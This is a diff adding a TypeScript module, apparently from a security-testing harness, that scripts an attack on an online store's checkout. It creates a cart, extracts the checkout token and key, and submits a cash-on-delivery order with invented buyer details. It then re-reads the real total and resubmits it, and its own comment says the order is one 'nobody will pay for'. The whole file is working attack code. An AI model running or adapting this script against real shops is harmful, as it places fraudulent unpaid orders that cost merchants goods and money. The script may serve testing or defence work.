@@ -1,0 +1,37 @@
+import { createCart } from './api-attacks.ts'
+import { ATTACKER, type Taken, type Target } from './attack.ts'
+
+const buyer = {
+  ...{ intent: 'pay', paymentMethod: 'cod', email: 'attacker@example.com', phone: '9876543210' },
+  ...{ firstName: 'Asha', lastName: 'Rao', address1: '1 Hill Road', city: 'Mumbai' },
+  ...{ province: 'Maharashtra', zip: '400050' },
+}
+
+/** Orders a game that nobody will pay for. */
+export async function fillCheckout(target: Target): Promise<Taken> {
+  const id = await createCart(target)
+  const [, token = '', key = ''] = /Cart\/(\w+)\?key=(\w+)/.exec(id) ?? []
+  const path = `/local-store/checkouts/${token}?key=${key}`
+  const send = (expectedTotal: string) =>
+    target.ask({
+      path,
+      address: ATTACKER,
+      headers: {
+        'content-type': 'application/x-www-form-urlencoded',
+        'accept-encoding': 'identity',
+      },
+      body: new URLSearchParams({ ...buyer, expectedTotal }).toString(),
+    })
+  // With an address the total has delivery: the page asks to look again.
+  const asked = await send('0')
+  const page = await target.ask({
+    path: String(asked.headers.location ?? path),
+    address: ATTACKER,
+    headers: { 'accept-encoding': 'identity' },
+  })
+  const total = /name="expectedTotal" value="([^"]*)"/.exec(page.body.toString())?.[1] ?? ''
+  const { status, headers } = await send(total)
+  if (status === 303 && String(headers.location).includes('/orders/')) return 'done'
+  if (status >= 500 || total === '') throw new Error(`${status}, for a total of "${total}"`)
+  return 'refused'
+}
